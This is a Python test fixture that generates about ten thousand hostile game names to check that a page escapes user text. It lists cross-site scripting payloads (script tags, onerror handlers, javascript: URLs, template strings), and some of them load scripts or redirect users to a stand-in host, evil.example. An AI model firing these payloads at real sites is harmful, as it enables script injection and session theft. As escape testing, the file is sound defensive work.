"""Some ten thousand hostile names, which tests give to games, to check that the page shows them as plain text.

If the page did not escape them, they would become markup, a script or another address, or turn the writing direction.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

OPENINGS = (
    *("", " ", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</p>", "</svg>", "</title>", "</textarea>", "</style>"),
    *("</script>", '" ', "' ", "\\", '\\"', "\\x3c", "&quot;", "&#34;", "%22", "\u202e", "\0", "\n", "\t", "&lt;", "&"),
)
PAYLOADS = (
    "<script>canary=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=canary=1>",
    "<svg onload=canary=1>",
    "<svg><script>canary=1</script></svg>",
    "<iframe srcdoc='<script>parent.canary=1</script>'>",
    "<a href=javascript:canary=1>x</a>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x>",
    "<object data=javascript:canary=1>",
    "<math><mtext></p><img src onerror=canary=1>",
    "<template><img src=x onerror=canary=1></template>",
    "<details open ontoggle=canary=1>",
    "onfocus=canary=1 autofocus x=",
    "data-action=resign x=",
    "style=background:url(//evil.example) x=",
    "javascript:canary=1",
    "&lt;img src=x onerror=canary=1&gt;",
    "&#60;script&#62;canary=1&#60;/script&#62;",
    "<ScRiPt>canary=1</sCrIpT>",
    "<<script>canary=1//<</script>",
    "<img src=x o\0nerror=canary=1>",
    "<!--<img src=--><img src=x onerror=canary=1>//",
    "<![CDATA[<img src=x onerror=canary=1>]]>",
    "{canary} {0.__class__} %s ${canary=1} {{canary=1}}",
    "\u2028canary=1\u2029",
    "\ud83c<b>",
)
CLOSINGS = ("", ">", "</svg>", '"', "'", "<!--", "<b>", "</p>", "\\", "&", "\u202c", "<script>")


def hostile_names() -> Iterator[str]:
    """Yields names that try to become markup or script: each is an opening, a payload and a closing.

    All of OPENINGS, PAYLOADS and CLOSINGS are combined. A payload is cut so that its name has at most 60 characters.
    """
    for opening, payload, closing in product(OPENINGS, PAYLOADS, CLOSINGS):
        room = 60 - len(opening) - len(closing)
        yield opening + payload[:room] + closing
